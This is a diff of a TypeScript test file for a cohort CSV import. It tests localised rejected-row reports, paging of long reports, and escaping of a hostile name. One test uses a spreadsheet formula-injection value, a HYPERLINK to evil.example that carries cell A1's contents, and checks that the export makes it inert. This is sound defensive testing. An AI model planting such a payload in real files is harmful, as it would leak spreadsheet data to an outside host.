@@ -5,7 +5,10 @@ import { cohortTemplateHeader, COHORT_COLUMNS, mapCohortHeaders, recordFromRow, 
 import { cohortTemplateCsv, parseCohortFile } from "./cohort-file";
 import { normaliseCsvDate, parseCohortRow } from "./cohort-row";
 import { decodeCsvBytes } from "./decode-csv";
-import { rejectedRowsCsv } from "./report-csv";
+import { exportLabels } from "@/lib/exports/export-labels";
+import { writeExport } from "@/lib/exports/write-export";
+import type { CohortImportReport } from "./import-cohort";
+import { REJECTED_ROW_COLUMNS, rejectedRowPages } from "./rejected-rows-export";
 
 const ID = makeResidentId("36010220010315123");
 const OUTSIDE = makeCreditCode("91440300MA5FHA003");
@@ -128,15 +131,29 @@ describe("cohort file", () => {
     if (!parsed.ok) expect(parsed.missing).toHaveLength(COHORT_COLUMNS.filter((c) => c.required).length - 1);
   });
 
-  it("writes a report of rejected rows in the reader's language", () => {
-    const csv = rejectedRowsCsv({ rejected: [{ rowNo: 3, name: "王", errors: [{ column: "idNumber", message: "residentIdCheck" }] }] }, "en", (k) => `T:${k}`, ["Row", "Name", "Column", "Reason"]);
-    expect(csv).toBe("\uFEFFRow,Name,Column,Reason\r\n3,王,ID number,T:residentIdCheck\r\n");
+  it("writes a report of rejected rows in the reader's language", async () => {
+    const report: Pick<CohortImportReport, "rejected"> = { rejected: [{ rowNo: 3, name: "王", errors: [{ column: "idNumber", message: "residentIdCheck" }] }] };
+    expect(await rejectedRowsText(report, "en")).toBe("Row,Name,Column,Reason\r\n3,王,ID number,The check character of this ID number is wrong.\r\n");
+    expect(await rejectedRowsText(report, "zh-CN")).toBe("行号,姓名,列,原因\r\n3,王,身份证号,身份证号校验位不正确。\r\n");
   });
 
-  it("neutralises a hostile name in the rejected-rows report, keeping the row number a number", () => {
+  it("neutralises a hostile name in the rejected-rows report, keeping the row number a number; an unknown reason is 'not valid'", async () => {
     const name = '=HYPERLINK("http://evil.example/?"&A1,"详情")';
-    const csv = rejectedRowsCsv({ rejected: [{ rowNo: 7, name, errors: [{ column: "idNumber", message: "residentIdCheck" }] }] }, "zh", (k) => (k === "residentIdCheck" ? "-校验位错误" : k), ["行", "姓名", "列", "原因"]);
-    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
-    expect(rows[1]).toEqual(["7", `'${name}`, "身份证号", "'-校验位错误"]);
+    const csv = await rejectedRowsText({ rejected: [{ rowNo: 7, name, errors: [{ column: "idNumber", message: "noSuchMessage" }] }] }, "zh-CN");
+    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
+    expect(rows[1]).toEqual(["7", `'${name}`, "身份证号", "输入无效。"]);
+  });
+
+  it("pages a long report (one row per error) without losing a row", async () => {
+    const rejected: CohortImportReport["rejected"] = Array.from({ length: 1500 }, (_, i) => ({ rowNo: i + 2, name: `n${i}`, errors: [{ column: "name", message: "required" }, { column: "phone", message: "required" }] }));
+    const pages: number[] = [];
+    for await (const page of rejectedRowPages({ rejected })) pages.push(page.length);
+    expect(pages).toEqual([1000, 1000, 1000]);
   });
 });
+
+async function rejectedRowsText(report: Pick<CohortImportReport, "rejected">, locale: "zh-CN" | "en"): Promise<string> {
+  const stream = writeExport({ format: "csv", labels: exportLabels(locale), columns: REJECTED_ROW_COLUMNS, pages: rejectedRowPages(report), sheetName: "exports.sheet.rejectedRows" });
+  // Response.text() drops the byte-order mark.
+  return new Response(stream).text();
+}
